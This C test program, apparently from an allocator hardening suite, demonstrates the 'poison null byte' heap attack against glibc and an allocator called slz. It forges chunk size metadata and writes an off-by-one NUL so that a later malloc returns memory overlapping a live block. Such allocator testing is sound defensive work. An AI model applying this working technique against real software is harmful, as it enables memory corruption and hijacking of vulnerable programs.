/* null_byte: the poison null byte. An off-by-one NUL shrinks a free chunk,
 * so that the allocator forgets to tell the chunk above it when the free
 * chunk is split; freeing that chunk then merges backwards over a live
 * block.
 *
 * Goal: a later malloc returns memory overlapping the live block B2.
 *
 * A (248 bytes), B (1280 bytes, a 1296-byte chunk: its size word's low byte
 * is 0x10 plus flags), C (1264 bytes) and a guard. While B is live the
 * attacker writes the shrunk size (1280) where the allocator will look for
 * it (glibc: a prev_size 1280 bytes above B's chunk; slz: the foot just
 * below). B is freed; a NUL byte one past A's usable size turns B's size
 * from 1296 into 1280. B1 (248 bytes) and B2 (768 bytes) are carved from
 * the shrunk B, B1 freed, then C freed: with the stale size below C, C merges
 * back over B1 and B2. Then malloc(2400).
 *   null_byte       (no arguments)
 */
#include "attacks.h"

int main(void)
{
    char *a = opaque(malloc(248)), *b = opaque(malloc(1280)), *c = opaque(malloc(1264));
    char *guard = opaque(malloc(40));
    need_layout(b, c);
    ((uintptr_t *)(b + 0x4f0))[0] = 0x500; /* glibc: prev_size of the chunk at B + 0x500 */
    ((uintptr_t *)(b + 0x4e8))[0] = 0x500; /* slz: the foot of a 0x500-byte chunk */
    free(b);
    a[malloc_usable_size(a)] = 0; /* the off-by-one */
    char *b1 = opaque(malloc(248)), *b2 = opaque(malloc(768));
    memset(b2, '2', 768);
    free(b1);
    free(c);
    char *d = opaque(malloc(2400));
    if (d && overlap(d, 2400, b2, 768))
        reached("malloc(2400) returned %p, overlapping the live block B2 at %p", (void *)d, (void *)b2);
    opaque(guard);
    not_reached("malloc(2400) returned %p, clear of B2 at %p", (void *)d, (void *)b2);
}
